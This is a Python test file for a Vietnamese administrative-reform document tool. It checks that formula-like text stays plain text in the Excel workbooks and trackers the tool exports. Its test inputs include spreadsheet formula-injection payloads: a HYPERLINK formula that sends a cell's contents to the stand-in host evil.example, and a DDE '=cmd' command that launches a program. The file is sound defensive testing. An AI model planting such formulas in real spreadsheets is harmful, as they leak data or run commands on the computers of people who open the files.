"""Text stays text: a name, a code or a plan task that looks like a formula is written as a
string in every workbook the program makes, and shown exactly as typed."""

from __future__ import annotations

from pathlib import Path

from conftest import edit, run_cli
from exports import row, write_xlsx
from openpyxl import load_workbook

from kehoach_docs.domain.progress import HEADER_ROW
from kehoach_docs.workspace import tracker_file

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84912345678",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
]


def test_register_workbook_keeps_formula_like_text(workspace: Path, tmp_path: Path) -> None:
    rows = [
        row(f"HS-{i}", applicant=payload, procedure=PAYLOADS[-1 - i], reason=payload)
        for i, payload in enumerate(PAYLOADS)
    ]
    export = write_xlsx(tmp_path / "xuat.xlsx", rows)
    # The one-stop system exports these as typed text, not as formulas.
    book = load_workbook(export)
    for cells in book.active.iter_rows():
        for cell in cells:
            if cell.data_type == "f":
                cell.data_type = "s"
    book.save(export)
    out = tmp_path / "out"
    assert (
        run_cli(
            "letters",
            str(export),
            "--data",
            str(workspace),
            "--out",
            str(out),
            "--as-of",
            "2024-02-20",
        )
        == 0
    )
    sheet = load_workbook(out / "so-theo-doi-phieu-xin-loi.xlsx")["Sổ theo dõi"]
    found = {}
    for cells in sheet.iter_rows(min_row=4):
        applicant, procedure, reason = cells[4], cells[5], cells[9]
        for cell in (applicant, procedure, reason):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
        found[applicant.value] = (procedure.value, reason.value)
    assert sorted(found) == sorted(PAYLOADS)
    for index, payload in enumerate(PAYLOADS):
        assert found[payload] == (PAYLOADS[-1 - index], payload)


def test_tracker_keeps_formula_like_tasks_and_entries(workspace: Path) -> None:
    edit(
        workspace / "ke-hoach.yaml",
        "nhiem_vu: Tổ chức thực hiện các nhiệm vụ tại Kế hoạch CCHC của xã năm 2024",
        'nhiem_vu: "=HYPERLINK(\\"http://evil.example\\",\\"Kế hoạch\\")"',
    )
    tracker = workspace / tracker_file(2024)
    tracker.unlink()
    assert run_cli("tracker", "--data", str(workspace)) == 0
    book = load_workbook(tracker)
    sheet = book["Phụ lục I"]
    line = next(
        r
        for r in range(HEADER_ROW + 1, sheet.max_row + 1)
        if str(sheet.cell(r, 3).value).startswith("=HYPERLINK")
    )
    task = sheet.cell(line, 3)
    assert (task.value, task.data_type) == ('=HYPERLINK("http://evil.example","Kế hoạch")', "s")
    # What an officer typed as text (Excel keeps a leading tab, "=" or "@" as typed) is
    # carried over as text when the tracker is made again.
    typed = {8: "=cmd|' /C calc'!A0", 9: "\t@SUM(1+1)", 11: "\r+1", 12: "-1"}
    for column, text in typed.items():
        cell = sheet.cell(line, column, text)
        cell.data_type = "s"
    book.save(tracker)
    edit(workspace / "ke-hoach.yaml", "Công tác tuyên truyền CCHC", "Công tác tuyên truyền về CCHC")
    assert run_cli("tracker", "--data", str(workspace)) == 0
    again = load_workbook(tracker)["Phụ lục I"]
    for column, text in typed.items():
        cell = again.cell(line, column)
        assert (cell.value, cell.data_type) == (text, "s"), cell.coordinate
